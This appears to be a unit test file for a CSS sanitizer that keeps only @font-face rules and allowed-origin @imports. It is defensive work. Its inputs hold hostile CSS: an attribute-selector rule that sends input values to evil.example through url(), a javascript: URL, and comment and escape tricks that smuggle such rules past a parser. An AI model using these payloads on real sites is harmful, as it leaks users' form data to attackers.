// The strict reading of a host's font CSS: only @font-face rules, and @imports from allowed origins.
import { describe, expect, it } from "vitest";
import { strictFontCss } from "../../src/index.js";

const FACE = '@font-face { font-family: "Inter"; src: url("https://fonts.example/inter.woff2") format("woff2"); font-weight: 400; }';

describe("strictFontCss", () => {
  it("keeps @font-face rules as they are", () => {
    expect(strictFontCss(FACE)).toBe(FACE);
  });

  it('keeps an @import of an allowed origin, rewritten as url("…"), and drops other origins', () => {
    const css =
      '@import url("https://fonts.googleapis.com/css2?family=Inter"); @import "https://evil.example/x.css"; @import url(https://fonts.googleapis.com/b.css);';
    expect(strictFontCss(css, ["https://fonts.googleapis.com"])).toBe(
      '@import url("https://fonts.googleapis.com/css2?family=Inter");\n@import url("https://fonts.googleapis.com/b.css");',
    );
  });

  it("drops every @import without allowed origins", () => {
    expect(strictFontCss('@import url("https://fonts.googleapis.com/a.css");')).toBe("");
  });

  it("drops style rules, which could read attribute values through selectors and send them in url()", () => {
    const css = `${FACE}\ninput[value^="a"] { background: url(https://evil.example/?a) }\n* { color: red }`;
    expect(strictFontCss(css)).toBe(FACE);
  });

  it("drops @imports with conditions, relative or non-http URLs, and other at-rules", () => {
    const css = [
      '@import url("https://fonts.example/a.css") screen;',
      '@import url("/a.css");',
      '@import url("javascript:alert(1)");',
      "@media screen { @font-face { font-family: X; } }",
      "@namespace svg url(http://www.w3.org/2000/svg);",
    ].join("\n");
    expect(strictFontCss(css, ["https://fonts.example"])).toBe("");
  });

  it("fails closed on what it cannot read with certainty: comments, escapes, nested blocks, strings across lines", () => {
    const tricky = [
      "@font-face { font-family: X; /* } a { background: url(https://evil.example) } */ }",
      '@font-face { font-family: "\\"}"; }',
      "@fo\\6et-face { font-family: X; }",
      "@font-face { font-family: 'X\n'; } a { background: url(https://evil.example) }",
      "@font-face { a { b: c } }",
    ].join("\n");
    expect(strictFontCss(tricky)).toBe("");
  });

  it("does not take a brace or semicolon inside a string as the end of a rule", () => {
    const css = '@font-face { font-family: "A;B}C"; src: url("https://fonts.example/a.woff2"); }';
    expect(strictFontCss(css)).toBe(css);
  });
});
